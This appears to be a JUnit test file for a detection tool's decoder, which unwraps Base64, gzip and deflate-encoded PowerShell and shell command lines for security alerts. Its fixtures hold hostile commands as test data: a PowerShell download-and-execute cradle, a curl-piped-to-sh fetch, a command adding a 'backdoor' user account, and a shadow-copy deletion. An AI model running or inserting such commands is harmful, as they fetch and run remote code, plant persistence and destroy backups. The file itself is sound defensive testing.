package io.watchfloor.ops.detection.alert;

import static org.assertj.core.api.Assertions.assertThat;

import io.watchfloor.ops.detection.alert.Decoder.Decoded;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DecoderTest {

    private static final String COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')";

    private static String base64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    private static String base64(String text, Charset charset) {
        return base64(text.getBytes(charset));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "powershell -enc %s",
                "powershell.exe -NoP -W Hidden -EncodedCommand %s -x",
                "pwsh -e \"%s\"",
                "powershell -EC %s",
                "powershell /enco '%s'",
                "powershell –enc %s"
            })
    void anEncodedCommandIsDecodedForEachSpellingOfTheOption(String line) {
        String encoded = base64(COMMAND, StandardCharsets.UTF_16LE);
        assertThat(Decoder.decode(line.formatted(encoded)))
                .containsExactly(new Decoded("PowerShell -EncodedCommand: Base64, UTF-16LE", encoded, COMMAND, false));
    }

    @Test
    void aShortEncodedCommandIsDecodedAfterTheOption() {
        assertThat(Decoder.decode("powershell -enc SQBFAFgA"))
                .extracting(Decoded::text)
                .containsExactly("IEX");
        assertThat(Decoder.decode("SQBFAFgA")).isEmpty();
    }

    @Test
    void base64IsDecodedInBothAlphabetsAndWithoutPadding() {
        String text = "curl http://192.0.2.1/?>>>??? | sh -";
        String padded = base64(text, StandardCharsets.UTF_8);
        String url = Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
        assertThat(Decoder.decode("echo " + padded + " | base64 -d | sh"))
                .containsExactly(new Decoded("Base64, UTF-8", padded, text, false));
        assertThat(Decoder.decode("x=" + url)).extracting(Decoded::text).containsExactly(text);
    }

    @Test
    void compressedAndNestedCommandsAreDecoded() throws IOException {
        String inner = base64("net user backdoor P@ssw0rd /add", StandardCharsets.UTF_8);
        String script = "$x=[Convert]::FromBase64String('" + inner + "')";
        ByteArrayOutputStream zipped = new ByteArrayOutputStream();
        try (OutputStream out = new GZIPOutputStream(zipped)) {
            out.write(script.getBytes(StandardCharsets.UTF_8));
        }
        String line = "powershell -c \"IEX(... FromBase64String('" + base64(zipped.toByteArray()) + "'))\"";

        assertThat(Decoder.decode(line))
                .extracting(Decoded::how, Decoded::text)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("Base64, gzip, UTF-8", script),
                        org.assertj.core.groups.Tuple.tuple(
                                "Base64, gzip, UTF-8, then Base64, UTF-8", "net user backdoor P@ssw0rd /add"));
    }

    @Test
    void deflateAndZlibAreDecoded() throws IOException {
        for (boolean bare : new boolean[] {true, false}) {
            ByteArrayOutputStream packed = new ByteArrayOutputStream();
            try (OutputStream out = new DeflaterOutputStream(packed, new Deflater(9, bare))) {
                out.write(COMMAND.getBytes(StandardCharsets.UTF_8));
            }
            assertThat(Decoder.decode("x('" + base64(packed.toByteArray()) + "')"))
                    .extracting(Decoded::text)
                    .containsExactly(COMMAND);
        }
    }

    @Test
    void aDecompressionBombIsCut() throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (OutputStream out = new GZIPOutputStream(packed)) {
            for (int i = 0; i < 10_000; i++) {
                out.write("a thousand bytes of nothing ".repeat(36).getBytes(StandardCharsets.UTF_8));
            }
        }
        Decoded decoded = Decoder.decode(base64(packed.toByteArray())).getFirst();
        assertThat(decoded.text()).hasSize(Decoder.LONGEST_OUTPUT);
        assertThat(decoded.cut()).isTrue();
    }

    @Test
    void nestingAndNumberOfResultsAreBounded() {
        String nested = COMMAND;
        for (int i = 0; i < 10; i++) {
            nested = base64(nested, StandardCharsets.UTF_8);
        }
        assertThat(Decoder.decode(nested)).hasSize(Decoder.DEEPEST);
        StringBuilder many = new StringBuilder();
        for (int i = 0; i < 50; i++) {
            many.append(base64("echo number " + i + " of many", StandardCharsets.UTF_8))
                    .append(' ');
        }
        assertThat(Decoder.decode(many.toString())).hasSize(Decoder.MOST);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -ExecutionPolicy Bypass",
                "vssadmin.exe delete shadows /all /quiet",
                "SHA256=46AA2691C368E777B0F94ADC0AC3B6CB7B52CECBF41673E5771C41AE32185492",
                "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
                "Microsoft-Windows-PowerShell/Operational/InternetExplorerInstallation",
                "/usr/share/applications/mimeinfo/cache/desktop",
                "powershell -enc %PAYLOAD%",
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
            })
    void plainTextIsNotDecoded(String value) {
        assertThat(Decoder.decode(value)).isEmpty();
    }

    @Test
    void randomValuesNeverCauseAnError() {
        Random random = new Random(12);
        for (int round = 0; round < 20_000; round++) {
            byte[] bytes = new byte[12 + random.nextInt(60)];
            random.nextBytes(bytes);
            if (round % 3 == 0) {
                bytes[0] = 0x1f;
                bytes[1] = (byte) 0x8b;
                bytes[2] = 8;
            }
            assertThat(Decoder.decode("-e " + base64(bytes)).size()).isLessThanOrEqualTo(1);
        }
    }
}
